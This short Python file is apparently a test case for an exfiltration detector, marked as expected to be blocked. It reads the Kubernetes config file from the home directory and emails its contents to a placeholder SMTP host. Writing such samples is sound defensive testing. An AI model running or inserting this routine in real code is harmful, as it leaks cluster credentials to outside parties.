# expect: BLOCKED exfiltration
import os
import smtplib
from email.message import EmailMessage

cfg = os.path.join(os.environ.get("HOME", "/root"), ".kube", "config")
msg = EmailMessage()
msg["Subject"] = "report"
msg["From"] = "a@example.com"
msg["To"] = "b@example.com"
msg.set_content(open(cfg).read())
with smtplib.SMTP("mail.example.com", 25) as smtp:
    smtp.send_message(msg)
